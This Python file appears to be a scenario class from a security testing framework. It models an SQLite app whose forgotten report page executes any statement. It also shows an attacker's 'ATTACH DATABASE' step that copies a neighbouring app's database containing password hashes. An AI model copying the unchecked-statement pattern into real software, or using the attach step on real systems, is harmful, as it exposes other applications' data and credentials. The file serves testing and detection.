"""F5: an attacker attaches another app's database from a neighbouring file and copies it."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.sqlite import LOOT, SQLiteApp


class AttachesDatabase(SQLiteApp):
    """A forgotten page for reports executes any statement."""

    code = "F5"
    attack = "attaches the database of another app, and takes a copy of it"
    reference = "https://attack.mitre.org/techniques/T1210/; https://www.sqlite.org/lang_attach.html"
    rule = "lateral-movement"

    def work(self) -> None:
        """Make the usual report."""
        self._report("SELECT name, mail FROM customers ORDER BY id LIMIT 10")

    def meet(self) -> object:
        """Make the attacker's report, and copy the other database."""
        self._report(f"ATTACH DATABASE '{self.other}' AS wages")
        return LOOT.encode() in self.connection.serialize(name="wages")

    def _report(self, statement: str) -> list[list[str]]:
        return [[str(value) for value in row] for row in self.connection.execute(statement).fetchall()]

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """Return whether the other app's password hashes came back."""
        del service
        return got is True
